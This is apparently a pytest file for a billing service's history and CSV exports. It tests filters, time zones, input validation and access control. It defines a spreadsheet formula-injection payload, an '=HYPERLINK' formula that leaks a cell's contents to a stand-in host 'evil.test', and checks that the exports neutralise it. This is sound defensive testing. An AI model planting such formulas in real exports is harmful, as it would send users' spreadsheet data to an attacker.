"""History an accountant can use, on SQLite and PostgreSQL: the ledger and the billing
history filtered by time (in the agency's time zone), kind, subteam, trigger and status,
page by page; the same lists as CSV files (API and billing page) whose text cells never
run as spreadsheet formulas; bad filters refused with 422, never a 500.

The agency's history is written once per engine (a module-scoped world, on a clock the
seed moves) and only read by the tests: what a test adds (another agency, a key, a bulk
ledger) belongs to another agency or changes nothing the others read."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from httpx import Response
from sqlalchemy import create_engine, text

from refill import services
from refill.bench.fixtures import BenchAgency, fill_history
from refill.bootstrap import Refill, build
from refill.clock import FrozenClock
from refill.config import Settings
from refill.db.schema import metadata
from refill.gateway.sandbox import SandboxGateway
from refill.money import parse_amount
from refill.reload.settings import SettingsChange
from refill.roles import MemberRole
from refill.services import exports, members
from refill.services.history_filters import TransferFilter
from refill.web import create_app
from tests.support.portal import PASSWORD, sign_in

PARIS = ZoneInfo("Europe/Paris")  # UTC+1 in February
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for your refund")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
READER = "reader@acme.test"  # a member of the agency: reads the billing page, changes nothing


@dataclass
class World:
    """One agency in Paris with a month of history; ``ids`` names each transfer and reload
    by what it is (``g1``, ``u1``, ``manual_ok``, ...)."""

    refill: Refill
    app: FastAPI
    client: TestClient
    clock: FrozenClock
    agency_id: str
    headers: dict[str, str]
    sales: str
    support: str
    ids: dict[str, str]

    def at(self, moment: datetime) -> None:
        self.clock.advance(moment - self.clock.now())

    def get(self, path: str, **params: Any) -> Response:
        response: Response = self.client.get(path, params=params, headers=self.headers)
        return response


def _transfer_id(refill: Refill, agency_id: str, reference: str) -> str:
    page = services.list_transfers(refill.db, agency_id=agency_id, limit=200)
    [found] = [t for t in page.data if t.reference == reference]
    return f"txn_{found.id}"


def _seed(w: World) -> None:
    """The history, in UTC (Paris is an hour ahead):

    g1  31 Jan 22:30 grant of 100 (a formula as reference and description)
    u1  31 Jan 23:30 usage of 10 by Sales (already 1 February in Paris)
    u2   1 Feb 12:00 usage of 5 by Support
    manual_ok / manual_credit   2 Feb 09:00 a manual reload of 50, paid (receipt R-000001)
    manual_failed               2 Feb 15:00 a manual reload of 20, declined
    adj1 3 Feb 09:00 an adjustment of -3
    u3   4 Feb 09:00 usage of 8 by Sales, then auto / auto_credit: an auto-reload of 150
    """
    db, agency = w.refill.db, w.agency_id
    w.at(datetime(2026, 1, 31, 22, 30, tzinfo=UTC))
    services.grant_credits(
        db, agency_id=agency, amount=100_000_000, reference=HYPERLINK, description=HYPERLINK
    )
    w.at(datetime(2026, 1, 31, 23, 30, tzinfo=UTC))  # 00:30 on 1 February in Paris
    services.record_usage(
        db, agency_id=agency, subteam_id=w.sales, amount=10_000_000, reference="u1"
    )
    w.at(datetime(2026, 2, 1, 12, 0, tzinfo=UTC))
    services.record_usage(
        db, agency_id=agency, subteam_id=w.support, amount=5_000_000, reference="u2"
    )
    w.at(datetime(2026, 2, 2, 9, 0, tzinfo=UTC))
    gateway = w.refill.gateway
    visa, _ = services.save_payment_method(
        db, gateway, agency_id=agency, token="pm_card_visa", actor="test"
    )
    ok, _ = services.add_credits(
        db,
        w.refill.processor,
        agency_id=agency,
        currency="USD",
        amount=50_000_000,
        payment_method_id=visa.id,
        request_key=None,
    )
    w.at(datetime(2026, 2, 2, 15, 0, tzinfo=UTC))
    declined, _ = services.save_payment_method(
        db, gateway, agency_id=agency, token="pm_card_chargeCustomerFail", actor="test"
    )
    failed, _ = services.add_credits(
        db,
        w.refill.processor,
        agency_id=agency,
        currency="USD",
        amount=20_000_000,
        payment_method_id=declined.id,
        request_key=None,
    )
    w.at(datetime(2026, 2, 3, 9, 0, tzinfo=UTC))
    services.adjust_wallet(
        db,
        agency_id=agency,
        amount=-3_000_000,
        reason="-1 call billed twice",
        reference="adj1",
        actor="test",
    )
    services.update_auto_reload(
        db,
        gateway,
        w.refill.policy,
        agency_id=agency,
        currency="USD",
        actor="test",
        change=SettingsChange(
            enabled=True,
            threshold=parse_amount("125.00"),
            reload_amount=parse_amount("150.00"),
            payment_method_id=visa.id,
        ),
    )
    w.at(datetime(2026, 2, 4, 9, 0, tzinfo=UTC))
    services.record_usage(
        db, agency_id=agency, subteam_id=w.sales, amount=8_000_000, reference="u3"
    )  # 132 - 8 = 124, below the threshold: an auto-reload of 150
    [auto] = [a for a in services.list_reloads(db, agency_id=agency).data if a.trigger == "auto"]
    assert (ok.status, failed.status, auto.status) == ("succeeded", "failed", "succeeded")
    w.ids.update(manual_ok=ok.id, manual_failed=failed.id, auto=auto.id)
    references = {"g1": HYPERLINK, "u1": "u1", "u2": "u2", "adj1": "adj1", "u3": "u3"}
    references |= {"manual_credit": ok.id, "auto_credit": auto.id}
    for name, reference in references.items():
        w.ids[name] = _transfer_id(w.refill, agency, reference)
    w.at(datetime(2026, 2, 5, 8, 0, tzinfo=UTC))


def database_url(request: pytest.FixtureRequest, folder: Path) -> str:
    """A clean, migrated database on the engine of ``request.param``, for this module."""
    if request.param == "sqlite":
        path = folder / "history.db"
        shutil.copy(request.getfixturevalue("sqlite_template"), path)
        return f"sqlite:///{path}"
    url: str = request.getfixturevalue("pg_url")
    engine = create_engine(url)
    with engine.begin() as conn:
        tables = ", ".join(t.name for t in metadata.sorted_tables)
        conn.execute(text(f"TRUNCATE {tables} RESTART IDENTITY CASCADE"))
    engine.dispose()
    return url


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def world(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[World]:
    url = database_url(request, tmp_path_factory.mktemp("history"))
    clock = FrozenClock(datetime(2026, 1, 31, 12, 0, tzinfo=UTC))
    refill = build(
        Settings(database_url=url),
        gateway=SandboxGateway(clock),
        clock=clock,
        in_process_worker=False,
    )
    refill.process_new_attempts_inline()
    agency, key = services.create_agency(refill.db, name="Acme Voice")
    services.update_agency(
        refill.db,
        agency_id=agency.id,
        change=services.AgencyChange(timezone="Europe/Paris"),
        actor="test",
    )
    members.add_member(
        refill.db,
        agency_id=agency.id,
        email=READER,
        role=MemberRole.MEMBER,
        password=PASSWORD,
        actor="test",
    )
    sales = services.create_subteam(refill.db, agency_id=agency.id, name="@Sales(EU)").id
    support = services.create_subteam(refill.db, agency_id=agency.id, name="Support").id
    app = create_app(refill)
    with TestClient(app) as client:
        w = World(
            refill,
            app,
            client,
            clock,
            agency.id,
            {"Authorization": f"Bearer {key.secret}"},
            sales,
            support,
            {},
        )
        _seed(w)
        yield w
    refill.close()


@pytest.fixture
def browser(world: World) -> Iterator[TestClient]:
    """A client of its own (its own cookies), for the billing page."""
    with TestClient(world.app) as client:
        yield client


def every_page(w: World, path: str, params: dict[str, Any], limit: int = 200) -> list[Any]:
    items: list[Any] = []
    cursor = None
    while True:
        response = w.get(path, **params, limit=limit, **({"cursor": cursor} if cursor else {}))
        assert response.status_code == 200, response.text
        body = response.json()
        items += body["data"]
        cursor = body["next_cursor"]
        if cursor is None:
            return items


def names_of(w: World, items: list[dict[str, Any]]) -> list[str]:
    by_id = {value: name for name, value in w.ids.items()}
    return [by_id[item["id"]] for item in items]


def read_csv(response: Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def as_text_cell(value: str | None) -> str:
    """What a text cell should read: a leading quote when it starts like a formula."""
    if not value:
        return ""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


ALL_TRANSFERS = ["auto_credit", "u3", "adj1", "manual_credit", "u2", "u1", "g1"]

TRANSFER_CASES = [
    pytest.param({}, ALL_TRANSFERS, id="no-filter-newest-first"),
    pytest.param(
        {"from": "2026-02-01"},
        ["auto_credit", "u3", "adj1", "manual_credit", "u2", "u1"],
        id="date-is-midnight-in-paris-so-u1-at-2330z-is-in",
    ),
    pytest.param({"to": "2026-02-01"}, ["g1"], id="to-is-exclusive-paris-midnight"),
    pytest.param(
        {"from": "2026-02-01T00:00:00Z"},
        ["auto_credit", "u3", "adj1", "manual_credit", "u2"],
        id="datetime-with-z-is-utc",
    ),
    pytest.param(
        {"from": "2026-02-01T13:00:00+01:00", "to": "2026-02-02T10:00:00+01:00"},
        ["u2"],  # u2 at exactly from is in, the credit at exactly to is out
        id="offsets-from-inclusive-to-exclusive",
    ),
    pytest.param(
        {"from": "2026-02-01T13:00:00", "to": "2026-02-01T13:00:00"},
        [],
        id="naive-datetime-in-paris-empty-window",
    ),
    pytest.param({"kind": "usage"}, ["u3", "u2", "u1"], id="one-kind"),
    pytest.param({"kind": ["usage", "grant"]}, ["u3", "u2", "u1", "g1"], id="two-kinds"),
    pytest.param({"kind": "auto_reload"}, ["auto_credit"], id="auto-reload-credits"),
    pytest.param({"kind": "adjustment"}, ["adj1"], id="adjustments"),
    pytest.param({"subteam": "sales"}, ["u3", "u1"], id="usage-of-one-subteam"),
    pytest.param({"subteam": "sales", "from": "2026-02-02"}, ["u3"], id="subteam-and-from"),
    pytest.param(
        {"kind": "usage", "to": "2026-02-02", "from": "2026-02-01"},
        ["u2", "u1"],
        id="kind-and-window",
    ),
    pytest.param({"from": "", "to": "", "kind": ""}, ALL_TRANSFERS, id="empty-values-no-filter"),
]


def transfer_params(w: World, case: dict[str, Any]) -> dict[str, Any]:
    params = dict(case)
    subteam = params.pop("subteam", None)
    if subteam is not None:
        params["subteam_id"] = w.sales if subteam == "sales" else w.support
    return params


@pytest.mark.parametrize(("case", "expected"), TRANSFER_CASES)
def test_transaction_filters_return_exactly_the_matching_transfers(
    world: World, case: dict[str, Any], expected: list[str]
) -> None:
    found = every_page(world, "/v1/transactions", transfer_params(world, case))
    assert names_of(world, found) == expected


RELOAD_CASES = [
    pytest.param({}, ["auto", "manual_failed", "manual_ok"], id="no-filter-newest-first"),
    pytest.param({"trigger": "auto"}, ["auto"], id="automatic-only"),
    pytest.param({"trigger": "manual"}, ["manual_failed", "manual_ok"], id="manual-only"),
    pytest.param({"status": "failed"}, ["manual_failed"], id="one-status"),
    pytest.param({"status": ["succeeded", "canceled"]}, ["auto", "manual_ok"], id="two-statuses"),
    pytest.param(
        {"trigger": "manual", "status": "succeeded"}, ["manual_ok"], id="trigger-and-status"
    ),
    pytest.param(
        {"from": "2026-02-02T12:00:00Z", "to": "2026-02-04"},
        ["manual_failed"],
        id="window",
    ),
    pytest.param({"to": "2026-02-02"}, [], id="nothing-before-the-first"),
    pytest.param({"trigger": "", "status": ""}, ["auto", "manual_failed", "manual_ok"], id="empty"),
]


@pytest.mark.parametrize(("params", "expected"), RELOAD_CASES)
def test_reload_filters_return_exactly_the_matching_attempts(
    world: World, params: dict[str, Any], expected: list[str]
) -> None:
    assert names_of(world, every_page(world, "/v1/reloads", params)) == expected


def test_pages_of_a_filtered_list_walk_only_the_matching_transfers(world: World) -> None:
    first = world.get("/v1/transactions", kind=["usage", "adjustment"], limit=2).json()
    assert names_of(world, first["data"]) == ["u3", "adj1"]
    second = world.get(
        "/v1/transactions", kind=["usage", "adjustment"], limit=2, cursor=first["next_cursor"]
    ).json()
    assert names_of(world, second["data"]) == ["u2", "u1"]
    assert second["next_cursor"] is None


def test_pages_of_a_filtered_billing_history_walk_only_the_matching_attempts(
    world: World,
) -> None:
    first = world.get("/v1/reloads", trigger="manual", limit=1).json()
    second = world.get("/v1/reloads", trigger="manual", limit=1, cursor=first["next_cursor"]).json()
    assert names_of(world, first["data"] + second["data"]) == ["manual_failed", "manual_ok"]
    assert second["next_cursor"] is None


BAD_INPUT = [
    pytest.param({"from": "yesterday"}, "invalid_date", "from", id="words"),
    pytest.param({"to": "2026-13-01"}, "invalid_date", "to", id="no-13th-month"),
    pytest.param({"from": "2026-02-30"}, "invalid_date", "from", id="no-30-february"),
    pytest.param({"from": "99999-01-01"}, "invalid_date", "from", id="five-digit-year"),
    pytest.param({"from": "+275760-09-13"}, "invalid_date", "from", id="huge-year"),
    pytest.param(
        {"from": "0001-01-01T00:00:00+05:00"}, "invalid_date", "from", id="before-year-one-utc"
    ),
    pytest.param(
        {"to": "9999-12-31T23:00:00-05:00"}, "invalid_date", "to", id="after-year-9999-utc"
    ),
    pytest.param({"from": "0001-01-01"}, "invalid_date", "from", id="paris-midnight-of-year-one"),
    pytest.param(
        {"from": "\uff12\uff10\uff12\uff16-01-01"}, "invalid_date", "from", id="fullwidth-digits"
    ),
    pytest.param({"from": "2026-01-01" + "0" * 5000}, "invalid_date", "from", id="very-long"),
    pytest.param({"from": "2026-01-01T25:00"}, "invalid_date", "from", id="hour-25"),
    pytest.param(
        {"from": "2026-02-02", "to": "2026-02-01"}, "invalid_date", "from", id="from-after-to"
    ),
    pytest.param({"from": "2026-01-01\x00"}, "invalid_characters", None, id="nul"),
]
TRANSFER_BAD_INPUT = [
    *BAD_INPUT,
    pytest.param({"kind": "refund"}, "validation_error", "kind", id="unknown-kind"),
    pytest.param({"kind": ["usage", "USAGE"]}, "validation_error", "kind", id="kind-case"),
]
RELOAD_BAD_INPUT = [
    *BAD_INPUT,
    pytest.param({"trigger": "sometimes"}, "validation_error", "trigger", id="unknown-trigger"),
    pytest.param({"status": ["failed", "done"]}, "validation_error", "status", id="bad-status"),
]


def assert_refused(response: Response, status: int, code: str, field: str | None) -> None:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body = response.json()
    assert body["code"] == code
    if field is not None:
        assert body["field"] == field


@pytest.mark.parametrize("path", ["/v1/transactions", "/v1/transactions.csv"])
@pytest.mark.parametrize(("params", "code", "field"), TRANSFER_BAD_INPUT)
def test_bad_transaction_filters_are_refused_with_422_naming_the_field(
    world: World, path: str, params: dict[str, Any], code: str, field: str | None
) -> None:
    assert_refused(world.get(path, **params), 422, code, field)


@pytest.mark.parametrize("path", ["/v1/reloads", "/v1/reloads.csv"])
@pytest.mark.parametrize(("params", "code", "field"), RELOAD_BAD_INPUT)
def test_bad_reload_filters_are_refused_with_422_naming_the_field(
    world: World, path: str, params: dict[str, Any], code: str, field: str | None
) -> None:
    assert_refused(world.get(path, **params), 422, code, field)


@pytest.mark.parametrize("path", ["/v1/transactions", "/v1/transactions.csv"])
def test_a_subteam_of_another_agency_is_not_found(world: World, path: str) -> None:
    other, _ = services.create_agency(world.refill.db, name="Other")
    stranger = services.create_subteam(world.refill.db, agency_id=other.id, name="X").id
    assert_refused(world.get(path, subteam_id=stranger), 404, "subteam_not_found", None)


@pytest.mark.parametrize(("case", "_expected"), TRANSFER_CASES)
def test_the_transactions_csv_says_what_the_json_list_says_for_the_same_filters(
    world: World, case: dict[str, Any], _expected: list[str]
) -> None:
    params = transfer_params(world, case)
    listed = every_page(world, "/v1/transactions", params)
    rows = read_csv(world.get("/v1/transactions.csv", **params))
    subteams = {world.sales: "@Sales(EU)", world.support: "Support", None: ""}
    assert [row["id"] for row in rows] == [item["id"] for item in listed]
    for row, item in zip(rows, listed, strict=True):
        at = datetime.fromisoformat(item["created_at"])
        assert datetime.fromisoformat(row["created_at"]) == at
        assert row["created_at"].endswith(("Z", "+00:00"))
        assert row["created_at_local"] == at.astimezone(PARIS).isoformat()
        signed = ("-" if item["direction"] == "debit" else "") + item["amount"]
        assert row == {
            "id": item["id"],
            "created_at": row["created_at"],
            "created_at_local": row["created_at_local"],
            "occurred_at": item["occurred_at"],
            "kind": item["kind"],
            "amount": signed,
            "currency": "USD",
            "balance_after": item["balance_after"],
            "subteam": as_text_cell(subteams[item["subteam_id"]]),
            "reference": as_text_cell(item["reference"]),
            "description": as_text_cell(item["description"]),
        }


@pytest.mark.parametrize(("params", "_expected"), RELOAD_CASES)
def test_the_reloads_csv_says_what_the_json_list_says_for_the_same_filters(
    world: World, params: dict[str, Any], _expected: list[str]
) -> None:
    listed = every_page(world, "/v1/reloads", params)
    rows = read_csv(world.get("/v1/reloads.csv", **params))
    cards = {c["id"]: c for c in world.get("/v1/payment-methods").json()["data"]}
    assert [row["id"] for row in rows] == [item["id"] for item in listed]
    for row, item in zip(rows, listed, strict=True):
        card = cards[item["payment_method_id"]]
        receipt = world.get(f"/v1/reloads/{item['id']}/receipt")
        at = datetime.fromisoformat(item["created_at"])
        assert datetime.fromisoformat(row["created_at"]) == at
        assert row == {
            "id": item["id"],
            "created_at": row["created_at"],
            "created_at_local": at.astimezone(PARIS).isoformat(),
            "trigger": item["trigger"],
            "status": item["status"],
            "amount": item["amount"],
            "currency": item["currency"],
            "card": f"{card['brand'].title()} ending {card['last4']}",
            "failure_code": item["failure_code"] or "",
            "failure_message": item["failure_message"] or "",
            "receipt_number": receipt.json()["number"] if receipt.status_code == 200 else "",
        }


def test_the_billing_history_csv_has_the_card_failure_and_receipt_of_each_reload(
    world: World,
) -> None:
    rows = {row["id"]: row for row in read_csv(world.get("/v1/reloads.csv"))}
    ok, failed, auto = (rows[world.ids[n]] for n in ("manual_ok", "manual_failed", "auto"))
    assert (ok["card"], ok["amount"], ok["receipt_number"]) == (
        "Visa ending 4242",
        "50.00",
        "R-000001",
    )
    assert (auto["trigger"], auto["amount"], auto["receipt_number"]) == (
        "auto",
        "150.00",
        "R-000002",
    )
    assert (failed["card"], failed["failure_code"], failed["receipt_number"]) == (
        "Visa ending 0341",
        "card_declined",
        "",
    )
    assert failed["failure_message"] == "Your card was declined."


def test_formula_cells_start_with_a_quote_and_negative_amounts_stay_numbers(
    world: World,
) -> None:
    rows = {row["id"]: row for row in read_csv(world.get("/v1/transactions.csv"))}
    grant, u1, adjustment = (rows[world.ids[n]] for n in ("g1", "u1", "adj1"))
    assert grant["reference"] == "'" + HYPERLINK
    assert grant["description"] == "'" + HYPERLINK
    assert u1["subteam"] == "'@Sales(EU)"
    assert adjustment["description"] == "'-1 call billed twice"
    assert (u1["amount"], adjustment["amount"], grant["amount"]) == ("-10.00", "-3.00", "100.00")
    raw = world.get("/v1/transactions.csv").text
    assert "\r\n" + world.ids["u1"] + "," in raw
    assert ",-10.00,USD," in raw  # the amount cell itself, unquoted and unprefixed


def test_csv_downloads_are_named_attachments_in_utf8(world: World) -> None:
    for path, what in (("/v1/transactions.csv", "transactions"), ("/v1/reloads.csv", "reloads")):
        response = world.get(path)
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == (
            f'attachment; filename="refill-{what}-acme-voice-2026-02-05.csv"'
        )
        assert response.text.splitlines()[0].startswith("id,created_at,created_at_local,")


def test_subteam_keys_cannot_export_the_ledger(world: World) -> None:
    key = services.create_subteam_key(
        world.refill.db, agency_id=world.agency_id, subteam_id=world.sales
    )
    response = world.client.get(
        "/v1/transactions.csv", headers={"Authorization": f"Bearer {key.secret}"}
    )
    assert_refused(response, 403, "forbidden", None)


def test_thousands_of_transfers_stream_in_keyset_chunks(world: World) -> None:
    db = world.refill.db
    bulk, key = services.create_agency(db, name="Bulk Calls")
    lines = services.create_subteam(db, agency_id=bulk.id, name="Lines").id
    fill_history(world.refill, BenchAgency(bulk.id, [lines]), 2500, start=1)
    export = exports.export_transfers(
        db, agency_id=bulk.id, matching=TransferFilter(), chunk_size=1000
    )
    lines_per_chunk = [len(chunk.decode().splitlines()) for chunk in export.chunks]
    assert lines_per_chunk == [1, 1000, 1000, 501]  # the header, then 2501 transfers

    with world.client.stream(
        "GET",
        "/v1/transactions.csv",
        params={"kind": "usage"},
        headers={"Authorization": f"Bearer {key.secret}"},
    ) as response:
        assert response.status_code == 200
        rows = list(csv.DictReader(response.iter_lines()))
    assert len(rows) == 2500
    assert {(row["amount"], row["subteam"]) for row in rows} == {("-0.000001", "Lines")}
    numbers = [int(row["id"].removeprefix("txn_")) for row in rows]
    assert numbers == sorted(set(numbers), reverse=True)


@pytest.mark.parametrize(
    "path", ["/portal/team/billing/history.csv", "/portal/team/billing/ledger.csv"]
)
def test_portal_downloads_send_a_visitor_without_a_session_to_sign_in(
    browser: TestClient, path: str
) -> None:
    response = browser.get(path, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == "/portal/login"


PORTAL_DOWNLOADS = [
    pytest.param("/portal/team/billing/ledger.csv", "/v1/transactions.csv", {}, id="ledger"),
    pytest.param(
        "/portal/team/billing/ledger.csv",
        "/v1/transactions.csv",
        {"from": "2026-02-01", "to": "2026-02-04", "kind": ["usage", "manual_reload"]},
        id="ledger-filtered",
    ),
    pytest.param("/portal/team/billing/history.csv", "/v1/reloads.csv", {}, id="history"),
    pytest.param(
        "/portal/team/billing/history.csv",
        "/v1/reloads.csv",
        {"trigger": "manual", "status": ["failed"], "from": "", "to": ""},
        id="history-filtered",
    ),
]


@pytest.mark.parametrize(("portal", "api", "params"), PORTAL_DOWNLOADS)
def test_a_read_only_member_downloads_the_same_csv_as_the_api(
    world: World, browser: TestClient, portal: str, api: str, params: dict[str, Any]
) -> None:
    expected = world.get(api, **params)
    assert sign_in(browser, READER).status_code == 303
    response = browser.get(portal, params=params)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == expected.headers["content-disposition"]
    assert response.headers["cache-control"] == "no-store"
    assert len(read_csv(response)) > 0
    assert response.content == expected.content


@pytest.mark.parametrize(
    ("path", "params", "words"),
    [
        pytest.param(
            "/portal/team/billing/ledger.csv", {"from": "31/01/2026"}, "ISO 8601", id="date"
        ),
        pytest.param(
            "/portal/team/billing/ledger.csv", {"kind": "refund"}, "kind must be one of", id="kind"
        ),
        pytest.param(
            "/portal/team/billing/history.csv",
            {"from": "2026-02-02", "to": "2026-02-01"},
            "from must not be after to",
            id="range",
        ),
        pytest.param(
            "/portal/team/billing/history.csv", {"status": "done"}, "status must be", id="status"
        ),
    ],
)
def test_bad_portal_filters_show_an_error_page(
    browser: TestClient, path: str, params: dict[str, Any], words: str
) -> None:
    assert sign_in(browser, READER).status_code == 303
    response = browser.get(path, params=params)
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("text/html")
    assert words in response.text


def test_a_window_of_whole_days_in_the_agencys_zone_matches_its_local_dates(
    world: World,
) -> None:
    rows = read_csv(world.get("/v1/transactions.csv", **{"from": "2026-02-01", "to": "2026-02-02"}))
    local_days = {datetime.fromisoformat(r["created_at_local"]).date().isoformat() for r in rows}
    assert local_days == {"2026-02-01"}
    assert [r["reference"] for r in rows] == ["u2", "u1"]
    assert timedelta(hours=1) == datetime.fromisoformat(rows[0]["created_at_local"]).utcoffset()
